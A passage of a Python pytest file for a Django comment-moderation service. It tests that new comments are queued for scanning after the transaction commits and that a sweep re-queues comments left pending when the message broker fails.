                            item(CLEAN, id="url-2", url="https://www.facebook.com/p/1")])
    urls = dict(Comment.objects.filter(pk__in=report.created).values_list("platform_id", "url"))
    assert urls == {"url-1": "", "url-2": "https://www.facebook.com/p/1"}


# ---- queueing the check --------------------------------------------------------------------------------

def test_new_comments_are_checked_after_the_commit(django_capture_on_commit_callbacks):
    acct = account()
    report = deliver(acct, [item(CLEAN, id="s-1")])
    # Inside the transaction nothing is queued yet.
    assert Comment.objects.get(pk=report.created[0]).status == CommentStatus.PENDING
    with django_capture_on_commit_callbacks(execute=True):
        report = deliver(acct, [item(CLEAN, id="s-2"), item(OFFENSIVE, id="s-3")])
    statuses = dict(Comment.objects.filter(pk__in=report.created).values_list("platform_id", "status"))
    assert statuses == {"s-2": CommentStatus.CLEAR, "s-3": CommentStatus.NEEDS_REVIEW}


def test_a_failure_to_queue_leaves_comments_pending_for_the_sweep(monkeypatch, django_capture_on_commit_callbacks):
    acct = account()

    def broker_down(*args, **kwargs):
        raise ConnectionError("redis is down")

    monkeypatch.setattr(tasks.scan_comments, "delay", broker_down)
    with django_capture_on_commit_callbacks(execute=True):
        report = deliver(acct, [item(CLEAN, id="w-1"), item(OFFENSIVE, id="w-2")])
    assert set(Comment.objects.values_list("status", flat=True)) == {CommentStatus.PENDING}
    # The sweep leaves comments alone while their own task may still be on its way...
    monkeypatch.undo()
    assert tasks.run_sweep() == {"comments": 0, "handoffs": 0}
    # ...and queues them again once they have waited.
    ago = timezone.now() - timedelta(minutes=5)
    Comment.objects.update(received=ago, updated=ago)
    assert tasks.run_sweep() == {"comments": 2, "handoffs": 0}
    statuses = dict(Comment.objects.filter(pk__in=report.created).values_list("platform_id", "status"))
    assert statuses == {"w-1": CommentStatus.CLEAR, "w-2": CommentStatus.NEEDS_REVIEW}
    assert set(CommentCheck.objects.values_list("trigger", flat=True)) == {"retry"}
    assert tasks.run_sweep() == {"comments": 0, "handoffs": 0}
